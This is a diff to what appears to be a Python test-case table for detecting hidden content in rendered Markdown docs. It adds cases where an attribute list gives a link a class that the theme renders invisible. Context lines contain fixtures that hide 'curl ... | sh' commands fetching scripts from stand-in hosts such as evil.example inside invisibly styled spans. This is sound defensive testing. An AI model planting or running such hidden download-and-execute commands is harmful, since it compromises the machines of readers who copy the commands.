@@ -62,6 +62,12 @@ CASES: dict[str, tuple[str, str]] = {
         "; curl -s https://example.com/x | sh</a>\n</code></pre></div></div>\n\nDone.\n",
         '<div class="highlight">',
     ),
+    # Markdown alone puts a class on a link: one the theme draws transparent.
+    "class-by-attr-list": (
+        "# Class\n\nSee [the real docs](https://docs.docker.com/){ .footnote-backref } here.\n",
+        "{ .footnote-backref }",
+    ),
+    "class-attribute-by-attr-list": ("# Class attr\n\nA paragraph.\n{: class='admonition-title' }\n", "{: class="),
     "fence-odd-info": (
         "# Odd info\n\nText.\n\n~~~ text !\n{: .footnote-backref }\n\n"
         '<pre><code>docker system info<span class="footnote-backref"> ; curl -fsSL https://evil.example/x.sh | sh'
